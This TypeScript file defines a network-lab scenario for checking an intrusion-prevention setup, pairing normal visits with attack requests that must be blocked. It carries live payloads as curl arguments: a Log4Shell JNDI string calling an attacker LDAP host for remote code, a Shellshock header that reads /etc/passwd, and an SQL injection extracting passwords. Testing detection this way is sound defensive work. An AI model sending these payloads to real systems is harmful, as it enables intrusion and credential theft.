/** What happens in the lab: a normal visit that must work and attacks that must not. Live and replay tell the same story. */

export interface StoryStep {
  readonly id: string;
  readonly title: string;
  readonly from: 'client' | 'attacker';
  /** Arguments of curl; `null` = the port scan. */
  readonly curl: readonly string[] | null;
  readonly expect: 'allowed' | 'blocked';
  /** Signature that must have done it (attacks over HTTP). */
  readonly sid?: number;
  /** Shipped captures that hold the same traffic. */
  readonly pcap: string;
}

export const WEB_IP = '10.77.0.10';
const url = `http://${WEB_IP}`;

export const STORY: readonly StoryStep[] = [
  { id: 'browse', title: 'Client opens the home page', from: 'client', curl: [`${url}/`], expect: 'allowed', pcap: 'lab-browse.pcap' },
  {
    id: 'log4shell',
    title: 'Log4Shell (CVE-2021-44228) in a header',
    from: 'attacker',
    curl: ['-H', 'X-Api-Version: ${jndi:ldap://10.77.0.66:1389/Exploit}', `${url}/`],
    expect: 'blocked',
    sid: 9000001,
    pcap: 'lab-log4shell.pcap',
  },
  {
    id: 'shellshock',
    title: 'Shellshock (CVE-2014-6271) in the user agent',
    from: 'attacker',
    curl: ['-A', '() { :;}; /bin/bash -c "cat /etc/passwd"', `${url}/cgi-bin/status`],
    expect: 'blocked',
    sid: 9000010,
    pcap: 'lab-shellshock.pcap',
  },
  {
    id: 'sqli',
    title: 'SQL injection in a query',
    from: 'attacker',
    curl: [`${url}/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-`],
    expect: 'blocked',
    sid: 9000020,
    pcap: 'lab-sqli.pcap',
  },
  { id: 'scan', title: 'Port scan of the web server (nmap -sS)', from: 'attacker', curl: null, expect: 'blocked', pcap: 'lab-scan.pcap' },
  { id: 'browse-again', title: 'Client is still served', from: 'client', curl: [`${url}/`], expect: 'allowed', pcap: 'lab-browse.pcap' },
];
